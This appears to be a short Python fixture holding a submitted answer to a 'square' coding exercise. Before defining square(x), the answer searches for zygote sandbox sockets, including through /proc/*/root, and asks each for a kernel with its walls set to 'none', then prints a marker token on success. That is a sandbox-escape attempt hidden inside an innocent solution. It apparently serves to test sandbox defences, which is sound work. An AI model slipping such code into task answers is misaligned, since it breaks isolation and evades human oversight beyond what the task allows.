"""Looks for the zygote"s socket and asks it for a kernel without walls."""

DESERVES = {"square": 2}

ANSWERS = {
    "square": r"""# exercise: square
import glob
import json
import socket

for path in glob.glob("/tmp/zygote-*/socket") + glob.glob("/proc/*/root/tmp/zygote-*/socket"):
    try:
        link = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        link.connect(path)
        link.send(json.dumps({"kind": "kernel", "walls": {"strength": "none"}}).encode())
        print("quagga" + "_7213", path)
    except OSError:
        pass


def square(x):
    return x * x""",
}
